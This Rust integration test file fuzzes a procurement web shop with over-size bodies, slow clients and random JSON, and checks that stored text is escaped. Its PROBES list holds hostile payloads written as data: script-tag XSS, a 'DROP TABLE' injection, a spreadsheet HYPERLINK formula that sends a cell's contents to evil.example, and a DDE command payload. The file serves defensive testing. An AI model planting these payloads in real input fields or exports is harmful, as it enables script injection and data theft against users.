//! Hostile input through the real HTTP server: over-size bodies, slow clients, random JSON
//! and query strings, and markup, SQL and Unicode oddities that must be stored as typed and
//! shown escaped everywhere they appear.

mod helpers;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use centrale::clock::Clock;
use centrale::db::Backend;
use helpers::soak::{self, Outcome};
use helpers::{buyer_fixture, issue_client, spawn_app, spawn_app_with, token, TestApp};

fn backend_name(backend: Backend) -> String {
    backend.name().to_owned()
}

/// A 413 problem document, not actix's plain text.
async fn assert_too_large_problem(label: &str, response: reqwest::Response) {
    assert_eq!(response.status(), 413, "{label}");
    let content_type = response.headers()["content-type"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(content_type, "application/problem+json", "{label}");
    let body: serde_json::Value = response.json().await.expect("problem body");
    assert_eq!(body["status"], 413, "{label}: {body}");
    assert_eq!(body["type"], "/problems/too-large", "{label}: {body}");
    assert!(body["detail"].as_str().is_some_and(|d| !d.is_empty()));
}

fn order_response_xml(reference: &str, padding: usize) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<OrderResponse xmlns="urn:oasis:names:specification:ubl:schema:xsd:OrderResponse-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">
  <cbc:CustomizationID>urn:fdc:peppol.eu:poacc:trns:order_response:3</cbc:CustomizationID>
  <cbc:ProfileID>urn:fdc:peppol.eu:poacc:bis:ordering:3</cbc:ProfileID>
  <cbc:ID>R-1</cbc:ID>
  <cbc:IssueDate>2026-03-10</cbc:IssueDate>
  <cbc:OrderResponseCode>AB</cbc:OrderResponseCode>
  <cbc:Note>{}</cbc:Note>
  <cac:OrderReference><cbc:ID>{reference}</cbc:ID></cac:OrderReference>
</OrderResponse>"#,
        "x".repeat(padding)
    )
}

/// Bodies over each endpoint's limit are refused with 413 in the shop's formats, bodies just
/// under it are read; the UBL limit is the parser's own.
async fn over_size_bodies_get_413_in_the_shop_format(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let c = &app.client;
    let buyer = buyer_fixture(&app, 3, "fr").await;
    let institution = token(&app, &buyer.client_id, &buyer.client_secret).await;
    let limit = centrale::startup::JSON_BODY_LIMIT;

    // Raw JSON body (orders read web::Bytes): over the limit, with and without a length.
    let response = c
        .post(app.url("/api/v1/orders"))
        .bearer_auth(&institution)
        .header("Content-Type", "application/json")
        .body(vec![b' '; limit + 1])
        .send()
        .await
        .unwrap();
    assert_too_large_problem("oversize order", response).await;
    // The same without a length: chunked transfer, cut off at the limit.
    let port = app.port;
    let bearer = institution.clone();
    let answer = tokio::task::spawn_blocking(move || {
        let mut request = format!(
            "POST /api/v1/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {bearer}\r\n\
             Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        )
        .into_bytes();
        for _ in 0..(limit / 8192 + 2) {
            request.extend_from_slice(b"2000\r\n");
            request.extend_from_slice(&[b' '; 8192]);
            request.extend_from_slice(b"\r\n");
        }
        request.extend_from_slice(b"0\r\n\r\n");
        raw_exchange(port, &request)
    })
    .await
    .unwrap();
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("application/problem+json"), "{answer}");
    // Just under the limit: read, then refused for what it says.
    let mut near = b"{\"lines\": [], \"x\": \"".to_vec();
    near.resize(limit - 2, b'a');
    near.extend_from_slice(b"\"}");
    let response = c
        .post(app.url("/api/v1/orders"))
        .bearer_auth(&institution)
        .header("Content-Type", "application/json")
        .body(near)
        .send()
        .await
        .unwrap();
    assert!(
        [400, 422].contains(&response.status().as_u16()),
        "a body at the limit is read: {}",
        response.status()
    );

    // web::Json endpoint, anonymous.
    let big = serde_json::json!({ "name": "x".repeat(limit) });
    let response = c
        .post(app.url("/api/v1/memberships"))
        .json(&big)
        .send()
        .await
        .unwrap();
    assert_too_large_problem("oversize membership application", response).await;

    // UBL: over 1 MiB is 413; 600 KiB is read by the parser (and refused for its content).
    let (supplier_id, supplier_secret) = issue_client(
        &app,
        centrale::parties::Role::Supplier,
        Some(supplier_of(&app).await),
    )
    .await;
    let supplier = token(&app, &supplier_id, &supplier_secret).await;
    let response = c
        .post(app.url("/api/v1/supplier/order-responses"))
        .bearer_auth(&supplier)
        .header("Content-Type", "application/xml")
        .body(order_response_xml(
            "CMD-NONE",
            centrale::ubl::MAX_INPUT_BYTES,
        ))
        .send()
        .await
        .unwrap();
    assert_too_large_problem("oversize UBL", response).await;
    let response = c
        .post(app.url("/api/v1/supplier/order-responses"))
        .bearer_auth(&supplier)
        .header("Content-Type", "application/xml")
        .body(order_response_xml("CMD-NONE", 600 * 1024))
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        404,
        "a 600 KiB document is parsed: no such order"
    );

    // A web form over its limit: a 413 page in the visitor's language.
    let response = c
        .post(app.url("/login?lang=nl"))
        .header("Cookie", "lang=nl")
        .form(&[("email", "x".repeat(64 * 1024)), ("password", "y".into())])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
    assert!(response.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/html"));
    let page = response.text().await.unwrap();
    assert!(page.contains("Verzoek te groot"), "{page}");
}

/// Sends raw bytes (ignoring a connection the server closes early) and returns what the
/// server answered.
fn raw_exchange(port: u16, request: &[u8]) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let _ = stream.write_all(request);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// The id of a supplier, registered for the purpose.
async fn supplier_of(app: &TestApp) -> i64 {
    let now = app.clock.now_naive();
    app.with_conn(move |conn| {
        centrale::parties::register_supplier(
            conn,
            now,
            &centrale::parties::SupplierInput {
                enterprise_number: &helpers::enterprise_number(901),
                name: "Fournisseur",
                email: "orders@fournisseur.example",
                language: "fr",
            },
        )
        .expect("supplier")
    })
    .await
}

/// What a slow client got: the first bytes the server sent (if any) and when the connection
/// ended, from the moment it connected.
struct SlowResult {
    answer: String,
    ended_after: Duration,
}

/// Sends a request's headers one line at a time, `pause` apart, never finishing them.
fn slow_client(port: u16, pause: Duration, give_up: Duration) -> SlowResult {
    let started = Instant::now();
    let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(50)))
        .unwrap();
    let lines = ["GET /catalogue HTTP/1.1\r\n", "Host: 127.0.0.1\r\n"];
    let mut answer = Vec::new();
    let mut sent = 0usize;
    let mut last_send = Instant::now() - pause;
    while started.elapsed() < give_up {
        if last_send.elapsed() >= pause {
            let line = match lines.get(sent) {
                Some(line) => line.to_string(),
                None => format!("X-Slow-{sent}: a\r\n"),
            };
            if stream.write_all(line.as_bytes()).is_err() {
                break;
            }
            sent += 1;
            last_send = Instant::now();
        }
        let mut buffer = [0u8; 1024];
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => answer.extend_from_slice(&buffer[..n]),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => break,
        }
    }
    SlowResult {
        answer: String::from_utf8_lossy(&answer).into_owned(),
        ended_after: started.elapsed(),
    }
}

/// Slow clients that never finish their headers are answered 408 and cut off within the
/// configured timeout, while everyone else is served as usual.
async fn slow_clients_are_cut_off_with_408(backend: Backend) {
    let timeout = Duration::from_millis(1000);
    let Some(app) = spawn_app_with(backend, |s| {
        s.server.client_request_timeout_ms = timeout.as_millis() as u64;
    })
    .await
    else {
        return;
    };
    let clients = 8 * soak::scale() as usize;
    let port = app.port;
    let slow: Vec<_> = (0..clients)
        .map(|_| {
            std::thread::spawn(move || {
                slow_client(port, Duration::from_millis(200), Duration::from_secs(10))
            })
        })
        .collect();
    // Meanwhile the shop answers others promptly.
    let mut requests = clients as u64;
    for _ in 0..10 {
        let started = Instant::now();
        let response = app.get("/healthz").await;
        assert_eq!(response.status(), 200);
        assert!(started.elapsed() < Duration::from_millis(500));
        requests += 1;
        actix_web::rt::time::sleep(Duration::from_millis(100)).await;
    }
    let mut cut_off = 0;
    for handle in slow {
        let result = tokio::task::spawn_blocking(move || handle.join().expect("slow client"))
            .await
            .unwrap();
        assert!(
            result.answer.starts_with("HTTP/1.1 408"),
            "answer to a slow client: {:?}",
            result.answer
        );
        assert!(
            result.ended_after < timeout + Duration::from_millis(1500),
            "slow client held the connection {:?}",
            result.ended_after
        );
        cut_off += 1;
    }
    // A client that connects and sends nothing is dropped too.
    let idle = tokio::task::spawn_blocking(move || {
        let started = Instant::now();
        let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
        stream
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let mut buffer = Vec::new();
        let _ = stream.read_to_end(&mut buffer);
        (
            started.elapsed(),
            String::from_utf8_lossy(&buffer).into_owned(),
        )
    })
    .await
    .unwrap();
    assert!(
        idle.0 < timeout + Duration::from_millis(1500),
        "idle connection held {:?} ({:?})",
        idle.0,
        idle.1
    );
    soak::record(&Outcome {
        scenario: "slow clients (slowloris) cut off".into(),
        backend: backend_name(backend),
        faults: clients as u64 + 1,
        requests: requests + 1,
        checked: cut_off + 1,
        lost: 0,
        duplicated: 0,
    });
}

// ---------------------------------------------------------------------------------------
// XSS and injection probes: stored as typed, shown escaped everywhere.

/// Text an attacker may type, each aimed at a different interpreter.
const PROBES: &[&str] = &[
    r#"<script>alert("xss")</script>"#,
    r#""><img src=x onerror=alert(1)>"#,
    "'; DROP TABLE orders;--",
    r#"=HYPERLINK("http://evil.example/?"&A1,"clic")"#,
    "+1+cmd|' /C calc'!A0",
    "-2+3 <b>gras</b>",
    "@SUM(A1:A9) & <i>",
    "Ab\u{202E}cd\u{200B}ef \u{1F9EA} e\u{0301}\u{FEFF}x {{lang}}",
];

/// What handlebars makes of text in a page.
fn escaped(text: &str) -> String {
    handlebars::html_escape(text)
}

/// Markup the page must never carry as markup, whatever the probe.
const LIVE_MARKUP: &[&str] = &[
    "<script>alert",
    "<img src=x",
    "onerror=alert",
    "<b>gras",
    "<i>",
];

/// The page shows `probe` escaped and never as markup. Returns 1 (one place verified).
fn assert_page_escapes(label: &str, page: &str, probe: &str) -> u64 {
    assert!(
        page.contains(&escaped(probe)),
        "{label}: {probe:?} not shown (escaped) in the page"
    );
    for live in LIVE_MARKUP {
        assert!(
            !page.contains(live),
            "{label}: live markup {live:?} in the page"
        );
    }
    1
}

/// A CSV export: no field a spreadsheet would read as a formula. Returns the fields.
fn assert_csv_neutral(label: &str, bytes: &[u8]) -> Vec<String> {
    let text = std::str::from_utf8(bytes).expect("CSV is UTF-8");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut fields = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{label}: malformed CSV: {e}"));
        for field in record.iter() {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{label}: formula-like field {field:?}"
            );
            fields.push(field.to_owned());
        }
    }
    fields
}

/// An XLSX export: text cells only, never a formula. Returns the text cells.
fn assert_xlsx_neutral(label: &str, bytes: Vec<u8>) -> Vec<String> {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))
        .unwrap_or_else(|e| panic!("{label}: not an XLSX file: {e}"));
    let mut texts = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("formulas readable");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{label}: sheet {name} holds formulas"
        );
        let range = book.worksheet_range(&name).expect("sheet readable");
        for (_, _, cell) in range.used_cells() {
            if let Data::String(text) = cell {
                texts.push(text.clone());
            }
        }
    }
    texts
}

/// Every text node (with its references resolved) and attribute value of a well-formed
/// XML document without a DOCTYPE.
fn xml_texts(label: &str, xml: &str) -> Vec<String> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut texts = Vec::new();
    let mut current = String::new();
    let mut depth = 0i32;
    loop {
        let event = reader
            .read_event()
            .unwrap_or_else(|e| panic!("{label}: not well-formed XML: {e}\n{xml}"));
        let boundary = matches!(
            event,
            Event::Start(_) | Event::End(_) | Event::Empty(_) | Event::Eof
        );
        if boundary && !current.is_empty() {
            texts.push(std::mem::take(&mut current));
        }
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                if matches!(event, Event::Start(_)) {
                    depth += 1;
                }
                for a in e.attributes() {
                    let a = a.unwrap_or_else(|err| panic!("{label}: bad attribute: {err}"));
                    texts.push(
                        a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .expect("attribute")
                            .into_owned(),
                    );
                }
            }
            Event::End(_) => depth -= 1,
            Event::Text(t) => current.push_str(&t.xml10_content()),
            Event::CData(t) => current.push_str(&t.xml10_content()),
            Event::GeneralRef(r) => {
                if r.is_char_ref() {
                    let c = r
                        .resolve_char_ref()
                        .ok()
                        .flatten()
                        .unwrap_or_else(|| panic!("{label}: bad character reference"));
                    current.push(c);
                } else {
                    current.push(match &*r.xml10_content() {
                        "lt" => '<',
                        "gt" => '>',
                        "amp" => '&',
                        "quot" => '"',
                        "apos" => '\'',
                        other => panic!("{label}: undefined entity &{other};"),
                    });
                }
            }
            Event::DocType(_) => panic!("{label}: a DOCTYPE in a UBL document"),
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(depth, 0, "{label}: unbalanced XML");
    texts
}

async fn api(
    app: &TestApp,
    method: reqwest::Method,
    path: &str,
    bearer: &str,
    body: Option<serde_json::Value>,
) -> (u16, serde_json::Value) {
    let mut request = app
        .client
        .request(method, app.url(path))
        .bearer_auth(bearer);
    if let Some(body) = body {
        request = request.json(&body);
    }
    let response = request.send().await.expect("sent");
    let status = response.status().as_u16();
    let text = response.text().await.expect("body");
    (
        status,
        serde_json::from_str(&text).unwrap_or(serde_json::Value::Null),
    )
}

async fn probes_are_stored_as_typed_and_shown_escaped(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let now = app.clock.now_naive();
    let lot = app
        .with_conn(move |conn| helpers::lot_fixture(conn, now, "LOT-PROBE", 2))
        .await;
    let (admin_id, admin_secret) = issue_client(&app, centrale::parties::Role::Admin, None).await;
    let admin = token(&app, &admin_id, &admin_secret).await;
    let (s2_id, s2_secret) = issue_client(
        &app,
        centrale::parties::Role::Supplier,
        Some(lot.suppliers[1]),
    )
    .await;
    let (s1_id, s1_secret) = issue_client(
        &app,
        centrale::parties::Role::Supplier,
        Some(lot.suppliers[0]),
    )
    .await;
    let mut sent = 0u64;
    let mut requests = 0u64;
    let mut checked = 0u64;

    // A NUL is refused where text is validated, and nothing is stored.
    let (status, problem) = api(
        &app,
        reqwest::Method::POST,
        &format!("/api/v1/admin/lots/{}/products", lot.lot_id),
        &admin,
        Some(serde_json::json!({
            "sku": "PROBE-NUL", "name_fr": "a\u{0}b", "name_nl": "a\u{0}b",
            "packaging_fr": "Boîte", "packaging_nl": "Doos", "unit_code": "BX", "vat_class": "standard",
        })),
    )
    .await;
    assert_eq!(status, 422, "NUL in a product name: {problem}");
    sent += 1;
    requests += 1;

    struct Placed {
        probe: &'static str,
        sku: String,
        product_id: i64,
        institution_id: i64,
        order_id: i64,
        buyer_email: String,
    }
    let mut placed = Vec::new();
    for (i, probe) in PROBES.iter().copied().enumerate() {
        let sku = format!("PROBE-{i}");
        let (status, product) = api(
            &app,
            reqwest::Method::POST,
            &format!("/api/v1/admin/lots/{}/products", lot.lot_id),
            &admin,
            Some(serde_json::json!({
                "sku": sku, "name_fr": probe, "name_nl": probe,
                "description_fr": probe, "description_nl": probe,
                "packaging_fr": "Boîte", "packaging_nl": "Doos",
                "unit_code": "BX", "vat_class": "standard",
            })),
        )
        .await;
        assert_eq!(status, 201, "product named {probe:?}: {product}");
        assert_eq!(product["name_fr"], probe, "stored as typed");
        let product_id = product["id"].as_i64().unwrap();
        for supplier in &lot.suppliers {
            let (status, body) = api(
                &app,
                reqwest::Method::PUT,
                &format!("/api/v1/admin/products/{product_id}/offers/{supplier}"),
                &admin,
                Some(serde_json::json!({ "price": "10.00", "available": true })),
            )
            .await;
            assert_eq!(status, 200, "{body}");
        }

        // An institution whose name and addresses are the probe.
        let seed = 700 + i as u32;
        let application = serde_json::json!({
            "institution": {
                "name": probe,
                "enterprise_number": helpers::enterprise_number(seed),
                "competent_authority": "IRISCARE",
                "sector": "care_home",
                "language": if i % 2 == 0 { "fr" } else { "nl" },
                "billing": {"street": probe, "postcode": "1000", "city": probe},
                "delivery": [{"label": probe, "street": probe, "postcode": "1000", "city": "Bruxelles"}]
            },
            "contact": {"name": probe, "email": format!("contact{seed}@probe.example")},
            "buyers": [{"name": probe, "email": format!("buyer{seed}@probe.example")}]
        });
        let response = app
            .client
            .post(app.url("/api/v1/memberships"))
            .json(&application)
            .send()
            .await
            .unwrap();
        let status = response.status();
        let body: serde_json::Value = response.json().await.unwrap_or_default();
        assert_eq!(status, 201, "application with {probe:?}: {body}");
        let institution_id = body["id"]
            .as_i64()
            .or_else(|| body["institution_id"].as_i64())
            .unwrap_or_else(|| panic!("institution id in {body}"));
        let (status, body) = api(
            &app,
            reqwest::Method::POST,
            &format!("/api/v1/admin/memberships/{institution_id}/approve"),
            &admin,
            None,
        )
        .await;
        assert!(status < 300, "approve: {status} {body}");
        let buyer_email = format!("probe-buyer{seed}@probe.example");
        let (email, name) = (buyer_email.clone(), probe.to_owned());
        let address_id = app
            .with_conn(move |conn| {
                centrale::parties::create_user(
                    conn,
                    now,
                    &centrale::parties::UserInput {
                        email: &email,
                        name: &name,
                        role: centrale::parties::Role::Institution,
                        institution_id: Some(institution_id),
                        supplier_id: None,
                        language: "fr",
                        password: Some(centrale::parties::Credential::Password(
                            "probe long password",
                        )),
                    },
                )
                .expect("buyer");
                let addresses =
                    centrale::db::parties::delivery_addresses_of(conn, institution_id).unwrap();
                assert_eq!(addresses[0].street, name, "address stored as typed");
                addresses[0].id
            })
            .await;
        let (client_id, secret) = issue_client(
            &app,
            centrale::parties::Role::Institution,
            Some(institution_id),
        )
        .await;
        let bearer = token(&app, &client_id, &secret).await;
        let (status, body) = api(
            &app,
            reqwest::Method::POST,
            "/api/v1/orders",
            &bearer,
            Some(serde_json::json!({
                "delivery_address_id": address_id,
                "buyer_reference": probe,
                "lines": [{ "sku": sku, "quantity": 2 }],
            })),
        )
        .await;
        assert_eq!(status, 201, "order referenced {probe:?}: {body}");
        let order_id = body["orders"][0]["id"].as_i64().unwrap();
        assert_eq!(body["orders"][0]["buyer_reference"], probe);
        let (status, shown) = api(
            &app,
            reqwest::Method::GET,
            &format!("/api/v1/orders/{order_id}"),
            &bearer,
            None,
        )
        .await;
        assert_eq!(status, 200);
        assert_eq!(shown["buyer_reference"], probe, "read back as typed");
        checked += 1;

        // The first supplier declines with the probe as its reason.
        let s1 = token(&app, &s1_id, &s1_secret).await;
        let (status, body) = api(
            &app,
            reqwest::Method::POST,
            &format!("/api/v1/supplier/orders/{order_id}/decline"),
            &s1,
            Some(serde_json::json!({ "reason_code": "out_of_stock", "reason": probe })),
        )
        .await;
        assert_eq!(status, 200, "decline with {probe:?}: {body}");
        // The second accepts, with the probe as its own reference.
        let s2 = token(&app, &s2_id, &s2_secret).await;
        let (status, body) = api(
            &app,
            reqwest::Method::POST,
            &format!("/api/v1/supplier/orders/{order_id}/accept"),
            &s2,
            Some(serde_json::json!({ "expected_delivery": "2026-03-16", "supplier_reference": probe })),
        )
        .await;
        assert_eq!(status, 200, "accept with {probe:?}: {body}");
        sent += 8; // product name, description, institution, address, contact, two references, reason
        requests += 11;
        placed.push(Placed {
            probe,
            sku,
            product_id,
            institution_id,
            order_id,
            buyer_email,
        });
    }

    // Pages: public, buyer, admin.
    let back_office = app.as_new_visitor();
    back_office
        .create_admin("admin@centrale.example", "admin long password")
        .await;
    assert_eq!(
        back_office
            .login("admin@centrale.example", "admin long password")
            .await
            .status(),
        303
    );
    let (_, lot_page) = app.get_text("/lots/LOT-PROBE").await;
    let s2 = token(&app, &s2_id, &s2_secret).await;
    for p in &placed {
        let probe = p.probe;
        let (status, page) = app.get_text(&format!("/products/{}", p.sku)).await;
        assert_eq!(status, 200);
        checked += assert_page_escapes("product page", &page, probe);
        checked += assert_page_escapes("lot page", &lot_page, probe);
        let (_, page) = app
            .get_text(&format!("/catalogue?q={}", centrale::web::encode(probe)))
            .await;
        for live in LIVE_MARKUP {
            assert!(!page.contains(live), "catalogue search: live {live:?}");
        }
        checked += 1;

        let buyer = app.as_new_visitor();
        assert_eq!(
            buyer
                .login(&p.buyer_email, "probe long password")
                .await
                .status(),
            303
        );
        let (_, page) = buyer.get_text("/orders").await;
        checked += assert_page_escapes("buyer order list", &page, probe);
        let (status, page) = buyer.get_text(&format!("/orders/{}", p.order_id)).await;
        assert_eq!(status, 200);
        checked += assert_page_escapes("buyer order page", &page, probe);

        for path in [
            format!("/admin/orders/{}", p.order_id),
            format!("/admin/memberships/{}", p.institution_id),
            format!("/admin/products/{}", p.product_id),
        ] {
            let (status, page) = back_office.get_text(&path).await;
            assert_eq!(status, 200, "{path}");
            checked += assert_page_escapes(&path, &page, probe);
        }

        // UBL as the supplier now holding the order receives it.
        let response = app
            .client
            .get(app.url(&format!("/api/v1/supplier/orders/{}", p.order_id)))
            .bearer_auth(&s2)
            .header("Accept", "application/xml")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        let xml = response.text().await.unwrap();
        let texts = xml_texts("UBL order", &xml);
        // UBL drops bidirectional overrides ("Trojan Source"); everything else is as typed.
        let in_ubl: String = probe
            .chars()
            .filter(|c| !('\u{202A}'..='\u{202E}').contains(c))
            .collect();
        for part in ["product name", "buyer reference", "delivery street"] {
            assert!(
                texts.iter().any(|t| t == &in_ubl),
                "UBL order: {part} {in_ubl:?} not found as text in\n{xml}"
            );
        }
        checked += 1;
        requests += 9;
    }

    // Emails: every HTML part escapes, every text part carries the probe as typed.
    let outbox = app.outbox().await;
    for probe in PROBES {
        let carrying: Vec<_> = outbox
            .iter()
            .filter(|m| m.body_text.contains(probe) || m.subject.contains(probe))
            .collect();
        assert!(!carrying.is_empty(), "no email names {probe:?}");
        for mail in carrying {
            assert!(
                mail.body_html.contains(&escaped(probe)),
                "{}: HTML part lacks escaped {probe:?}",
                mail.template
            );
            checked += 1;
        }
    }
    for mail in &outbox {
        for live in LIVE_MARKUP {
            assert!(
                !mail.body_html.contains(live),
                "{}: live {live:?} in the HTML part",
                mail.template
            );
        }
        assert!(
            !mail.subject.contains('\n') && !mail.to_name.contains('\n'),
            "header injection"
        );
    }

    // Exports: reports and the audit trail, in CSV and XLSX.
    let refreshed = app
        .with_conn(|conn| centrale::reports::refresh::catch_up(conn).map_err(|e| e.to_string()))
        .await;
    refreshed.expect("reports refreshed");
    let mut csv_fields = Vec::new();
    let mut xlsx_texts = Vec::new();
    for path in [
        "/admin/reports/products.csv?from=2026-01-01&until=2026-12-31",
        "/admin/reports/breaches.csv?from=2026-01-01&until=2026-12-31",
        "/admin/audit.csv",
    ] {
        let response = back_office.get(path).await;
        assert_eq!(response.status(), 200, "{path}");
        let bytes = response.bytes().await.unwrap();
        csv_fields.extend(assert_csv_neutral(path, &bytes));
        checked += 1;
    }
    for path in [
        "/admin/reports/all.xlsx?from=2026-01-01&until=2026-12-31",
        "/admin/audit.xlsx",
    ] {
        let response = back_office.get(path).await;
        assert_eq!(response.status(), 200, "{path}");
        let bytes = response.bytes().await.unwrap().to_vec();
        xlsx_texts.extend(assert_xlsx_neutral(path, bytes));
        checked += 1;
    }
    for probe in PROBES {
        let formula = probe.starts_with(['=', '+', '-', '@']);
        let as_csv = if formula {
            format!("'{probe}")
        } else {
            probe.to_string()
        };
        assert!(
            csv_fields.iter().any(|f| f == &as_csv),
            "CSV exports lack {as_csv:?}"
        );
        assert!(
            xlsx_texts.iter().any(|t| t == probe),
            "XLSX exports lack {probe:?} as text"
        );
        checked += 2;
    }
    requests += 6;

    soak::record(&Outcome {
        scenario: "XSS and injection probes".into(),
        backend: backend_name(backend),
        faults: sent,
        requests,
        checked,
        lost: 0,
        duplicated: 0,
    });
}

// ---------------------------------------------------------------------------------------
// Random JSON bodies and query strings through the real API.

/// Any JSON value, nested a few levels, with the kinds of strings and numbers that trip
/// parsers: huge, negative, fractional, empty, odd Unicode.
fn any_json() -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
    use proptest::prelude::*;
    use serde_json::Value;
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(Value::from),
        Just(Value::from(u64::MAX)),
        "\\PC{0,20}".prop_map(Value::from),
        "[0-9]{1,4}-[0-9]{2}-[0-9]{2}".prop_map(Value::from),
        proptest::sample::select(vec![
            "",
            "0",
            "-1",
            "1e400",
            "NaN",
            "12.345",
            "standard",
            "BX",
            "out_of_stock",
            "institution",
            "admin",
            "supplier",
            "http://127.0.0.1:1/",
            "javascript:alert(1)",
            "\u{0}",
            "LOT-A",
        ])
        .prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 24, 6, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            proptest::collection::btree_map(
                proptest::sample::select(vec![
                    "delivery_address_id",
                    "buyer_reference",
                    "lines",
                    "sku",
                    "quantity",
                    "reason",
                    "reason_code",
                    "expected_delivery",
                    "refused_skus",
                    "items",
                    "url",
                    "role",
                    "for_id",
                    "name",
                    "reference",
                    "category",
                    "kind",
                    "title_fr",
                    "title_nl",
                    "valid_from",
                    "valid_until",
                    "price",
                    "available",
                    "suppliers",
                    "rank",
                    "supplier_id",
                    "institution",
                    "contact",
                    "buyers",
                    "x",
                ])
                .prop_map(str::to_owned),
                inner,
                0..6,
            )
            .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// A valid body with one field replaced by anything, or one removed.
fn mutated(
    valid: serde_json::Value,
) -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
    use proptest::prelude::*;
    let keys: Vec<String> = valid
        .as_object()
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    (proptest::sample::select(keys), any_json(), any::<bool>()).prop_map(
        move |(key, value, remove)| {
            let mut body = valid.clone();
            let object = body.as_object_mut().unwrap();
            if remove {
                object.remove(&key);
            } else {
                object.insert(key, value);
            }
            body
        },
    )
}

/// Query strings: known parameters with odd values, unknown ones, broken encodings.
fn any_query() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let key = proptest::sample::select(vec![
        "limit",
        "offset",
        "cursor",
        "after",
        "status",
        "since",
        "until",
        "from",
        "lot",
        "q",
        "category",
        "page",
        "per_page",
        "sort",
        "lang",
        "authority",
        "updated_since",
        "x",
        "",
    ]);
    let value = prop_oneof![
        "\\PC{0,16}".prop_map(|v| centrale::web::encode(&v)),
        "[%&=+;#a-z0-9]{0,16}",
        Just("%".to_owned()),
        Just("%ZZ".to_owned()),
        Just("%C3%28".to_owned()),
        Just("-1".to_owned()),
        Just("99999999999999999999999".to_owned()),
        Just("2026-02-30".to_owned()),
    ];
    proptest::collection::vec((key, value, any::<bool>()), 0..5).prop_map(|pairs| {
        pairs
            .into_iter()
            .map(|(k, v, bare)| {
                if bare {
                    k.to_string()
                } else {
                    format!("{k}={v}")
                }
            })
            .collect::<Vec<_>>()
            .join("&")
    })
}

fn sample<S: proptest::strategy::Strategy>(
    strategy: &S,
    runner: &mut proptest::test_runner::TestRunner,
) -> S::Value {
    use proptest::strategy::ValueTree;
    strategy.new_tree(runner).expect("value").current()
}

/// Asserts the answer to hostile input: never 5xx; an error is a problem document whose
/// status matches the response's.
async fn assert_handled(label: &str, response: reqwest::Response) -> u16 {
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap_or("").to_owned())
        .unwrap_or_default();
    let body = response.text().await.unwrap_or_default();
    assert!(status < 500, "{label}: {status} {body}");
    if status >= 400 {
        assert_eq!(
            content_type, "application/problem+json",
            "{label}: {status} {body}"
        );
        let problem: serde_json::Value = serde_json::from_str(&body)
            .unwrap_or_else(|e| panic!("{label}: problem is not JSON ({e}): {body}"));
        assert_eq!(problem["status"], status, "{label}: {body}");
        assert!(problem["title"].is_string(), "{label}: {body}");
    }
    status
}

fn cases() -> u64 {
    let base = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
        .map(|n| (n / 100).max(40))
        .unwrap_or(40);
    base * soak::scale()
}

async fn random_bodies_and_queries_get_4xx_problems_never_5xx(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |s| {
        s.api.rate_per_second = 100_000;
        s.api.burst = 100_000;
    })
    .await
    else {
        return;
    };
    let now = app.clock.now_naive();
    let lot = app
        .with_conn(move |conn| {
            let lot = helpers::lot_fixture(conn, now, "LOT-FUZZ", 2);
            helpers::product_fixture(
                conn,
                now,
                &lot,
                "FUZZ-1",
                "standard",
                &[Some("10.00"), Some("11.00")],
                &[],
            );
            lot
        })
        .await;
    let buyer = buyer_fixture(&app, 42, "fr").await;
    let institution = token(&app, &buyer.client_id, &buyer.client_secret).await;
